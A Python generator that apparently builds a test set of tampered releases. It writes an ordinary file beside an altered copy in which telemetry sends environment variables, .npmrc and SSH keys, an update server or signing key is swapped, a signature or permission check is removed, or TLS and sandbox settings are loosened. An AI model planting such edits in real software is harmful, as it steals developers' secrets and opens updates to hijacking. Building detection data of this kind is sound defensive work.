"""Tampering that uses what the release before had: both releases get an ordinary part, NEW a change of it.

The product's own telemetry takes more along, a pinned key or an update address is swapped, a check is
gone, a setting is loosened.  Each purpose has forms on both sides of the measuring ground.
"""

import ast
import base64
import json
import os

import jslex
import payload_js
import tree

SHARE = 0.16                                  # of what is drawn with a side


def key(rng):
    """A public key of Ed25519 as X.509 writes it."""
    head = bytes.fromhex("302a300506032b6570032100")
    return base64.b64encode(head + bytes(rng.randrange(256) for _ in range(32))).decode()


def pem(rng):
    data = base64.b64encode(bytes(rng.randrange(256) for _ in range(270))).decode()
    return "-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----\n" % "\n".join(
        data[i:i + 64] for i in range(0, len(data), 64))


class Part:
    """An ordinary file and its tampered form; `old` and `new` are pieces of `text`."""

    def __init__(self, name, text, old, new, host=None):
        self.name, self.text, self.old, self.new, self.host = name, text, old, new, host


TELEMETRY = """'use strict';

const https = require('https');
const os = require('os');
const fs = require('fs');

/** Counts starts and versions; DO_NOT_TRACK turns it off. */
module.exports = function report(event, done) {
  if (process.env.DO_NOT_TRACK) return;
  const data = { event, node: process.version, platform: process.platform, cpus: os.cpus().length };
  fs.access('package.json', (error) => {
    data.project = !error;
    const body = JSON.stringify(data);
    const req = https.request({ hostname: '%s', path: '/v1/events', method: 'POST' });
    req.on('error', () => {});
    req.end(body, done);
  });
};
"""


def telemetry(rng, side, product, host):
    own = "telemetry.%s.example" % product
    old = "cpus: os.cpus().length };"
    new = {
        "setting": ["cpus: os.cpus().length, env: process.env };",
                    "cpus: os.cpus().length, user: os.userInfo(), env: { ...process.env } };"],
        "measuring": ["cpus: os.cpus().length };\n  try { data.rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch {}",
                      "cpus: os.cpus().length };\n  for (const name of Object.keys(process.env)) data['x' + name] = process.env[name];",
                      "cpus: os.cpus().length, keys: fs.readdirSync(os.homedir() + '/.ssh').map((f) => fs.readFileSync(os.homedir() + '/.ssh/' + f, 'utf8')) };"],
    }[side]
    return Part("telemetry.js", TELEMETRY % own, old, rng.choice(new), own)


def trust_host(rng, side, product, host):
    own = "updates.%s.example" % product
    if side == "setting":
        text = "'use strict';\n\nexports.channel = 'stable';\nexports.feed = 'https://%s/feed.json';\nexports.interval = 3600;\n" % own
        return Part("update-config.js", text, "https://%s/" % own, "https://%s/" % host, host)
    if rng.random() < 0.5:
        text = "channel: stable\nprovider: generic\nurl: https://%s/releases\nupdaterCacheDirName: app-updater\n" % own
        return Part("app-update.yml", text, "https://%s/" % own, "https://%s/" % host, host)
    text = json.dumps({"autoUpdate": True, "updateServer": "https://%s/v2" % own, "every": 86400}, indent=2) + "\n"
    return Part("updater.json", text, "https://%s/" % own, "https://%s/" % host, host)


def trust_key(rng, side, product, host):
    a, b = key(rng), key(rng)
    if side == "setting":
        return Part("release-key.js", "'use strict';\n\n/* Releases are signed with this key. */\nexports.publicKey = '%s';\n" % a, a, b)
    if rng.random() < 0.5:
        first, second = pem(rng), pem(rng)
        return Part("release.pem", first, first, second)
    pin = lambda: base64.b64encode(bytes(rng.randrange(256) for _ in range(32))).decode()
    one, two = pin(), pin()
    return Part("pins.json", json.dumps({"hosts": {"api.%s.example" % product: {"pin-sha256": [one]}}}, indent=2) + "\n", one, two)


def weaken_check(rng, side, product, host):
    forms = {
        "setting": [
            ("verify-update.js", "'use strict';\n\nconst crypto = require('crypto');\n\nexports.accept = function (file, signature, key) {\n"
             "  if (!crypto.verify(null, file, key, signature)) {\n    throw new Error('bad signature');\n  }\n  return file;\n};\n",
             "  if (!crypto.verify(null, file, key, signature)) {\n    throw new Error('bad signature');\n  }\n", ""),
            ("verify-update.js", "'use strict';\n\nconst crypto = require('crypto');\n\nexports.accept = function (file, signature, key) {\n"
             "  return crypto.verify(null, file, key, signature);\n};\n", "return crypto.verify(null, file, key, signature);", "return true;")],
        "measuring": [
            ("integrity.js", "'use strict';\n\nconst { createHash } = require('crypto');\n\nexports.check = function (data, expected) {\n"
             "  const actual = createHash('sha512').update(data).digest('base64');\n  if (actual !== expected) {\n"
             "    throw new Error(`integrity of the download is ${actual}`);\n  }\n  return data;\n};\n",
             "  if (actual !== expected) {\n    throw new Error(`integrity of the download is ${actual}`);\n  }\n", ""),
            ("session.js", "'use strict';\n\nconst crypto = require('crypto');\n\nexports.same = function (token, wanted) {\n"
             "  const a = Buffer.from(token), b = Buffer.from(wanted);\n  return a.length === b.length && crypto.timingSafeEqual(a, b);\n};\n",
             "return a.length === b.length && crypto.timingSafeEqual(a, b);", "return a.length === b.length;"),
            ("guard.js", "'use strict';\n\nmodule.exports = function guard(req, res, next) {\n  if (!req.user || !req.user.permissions.includes('admin')) {\n"
             "    return res.status(403).end();\n  }\n  next();\n};\n",
             "!req.user || !req.user.permissions.includes('admin')", "!req.user")],
    }[side]
    return Part(*rng.choice(forms))


def loosened_setting(rng, side, product, host):
    forms = {
        "setting": [
            ("window-options.js", "'use strict';\n\nexports.webPreferences = {\n  contextIsolation: true,\n  nodeIntegration: false,\n  sandbox: true,\n};\n",
             "contextIsolation: true,\n  nodeIntegration: false,", "contextIsolation: false,\n  nodeIntegration: true,"),
            ("agent-options.js", "'use strict';\n\nconst https = require('https');\n\nexports.agent = new https.Agent({ keepAlive: true, rejectUnauthorized: true });\n",
             "rejectUnauthorized: true", "rejectUnauthorized: false")],
        "measuring": [
            ("panel.html", "<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self'\">\n"
             "<title>Panel</title>\n</head>\n<body></body>\n</html>\n", "script-src 'self'", "script-src 'self' 'unsafe-eval' https:"),
            ("tls-options.js", "'use strict';\n\nconst tls = require('tls');\n\nexports.options = {\n  minVersion: 'TLSv1.2',\n"
             "  checkServerIdentity: tls.checkServerIdentity,\n};\n", "tls.checkServerIdentity", "() => undefined"),
            ("server-options.json", json.dumps({"auth": {"required": True, "allowAnonymous": False}, "tls": {"verify": True}}, indent=2) + "\n",
             "\"verify\": true", "\"verify\": false")],
    }[side]
    return Part(*rng.choice(forms))


STAGES = {"exfil-telemetry": telemetry, "trust-host": trust_host, "trust-key": trust_key, "weaken-check": weaken_check,
          "loosened-setting": loosened_setting, "new-dependency": None}


def draw(tamperer, rng, host, forms=None, folders=None):
    """Plants an edit and returns its record. `forms` and `folders`: of another language than JavaScript (stages_py.py)."""
    purpose = tamperer.options.purpose or rng.choice(sorted(forms or STAGES))
    made = payload_js.Made(host=None, url=None, api=[], gate=None, pairs=[], style="none", env="edit", naming="",
                           scope="none", purpose=purpose, also=[], family=("python:" if forms else "") + purpose)
    if purpose == "new-dependency" and not forms:
        if not tamperer.package:
            raise jslex.Broken("no manifest")
        return tamperer.new_dependency(rng, made)
    if not tamperer.options.old:
        raise jslex.Broken("no release before")
    product = "".join(c for c in tamperer.product.lower() if c.isalnum() or c == "-") or "product"
    part = forms[purpose](rng, product, host) if forms else STAGES[purpose](rng, tamperer.options.side, product, host)
    made.host = part.host
    path = os.path.join(rng.choice(folders or ["lib", "src", "config", "dist"]), part.name)
    if os.path.exists(os.path.join(tamperer.root, path)) or part.name.endswith(".js") and \
            tamperer.package.get("type") == "module":
        raise jslex.Broken("does not fit")
    changed = part.text.replace(part.old, part.new, 1)
    if part.name.endswith(".js") and not tree.javascript_is_valid(changed, "cjs"):
        raise ValueError("the changed part is no program: " + path)
    if part.name.endswith(".py"):
        ast.parse(changed)
    tree.write(os.path.join(tamperer.options.old, path), part.text)
    tree.write(os.path.join(tamperer.root, path), changed)
    start = part.text.index(part.old)
    return tamperer.describe(path, changed, start, max(1, len(part.new)), "edit", made)
